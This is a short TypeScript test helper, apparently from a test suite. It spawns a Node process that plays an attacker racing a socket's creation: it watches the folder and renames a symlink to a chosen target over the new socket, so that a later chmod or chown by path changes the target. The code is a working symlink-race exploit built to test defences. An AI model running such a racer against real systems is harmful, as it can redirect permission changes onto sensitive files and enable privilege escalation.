/**
 * An attacker able to write to a socket's folder: as soon as NAME appears there as a socket, a symlink to
 * `target` is renamed over it (what would make a chmod or chown by path after bind change `target`).
 * A real process watching with inotify (fs.watch).
 */
import { spawn, type ChildProcess } from 'node:child_process';

export async function startSymlinkRacer(dir: string, name: string, target: string): Promise<ChildProcess> {
  const racer = spawn(
    process.execPath,
    [
      '-e',
      `const fs=require('fs'),p=require('path');const [d,n,t]=process.argv.slice(1);
       fs.watch(d,(ev,f)=>{if(f!==n)return;try{if(!fs.lstatSync(p.join(d,n)).isSocket())return}catch{return}try{fs.symlinkSync(t,p.join(d,'tmp-link'));}catch{}try{fs.renameSync(p.join(d,'tmp-link'),p.join(d,n));}catch{}});
       process.stdout.write('ready\\n');`,
      dir,
      name,
      target,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  await new Promise((r) => racer.stdout!.once('data', r));
  return racer;
}
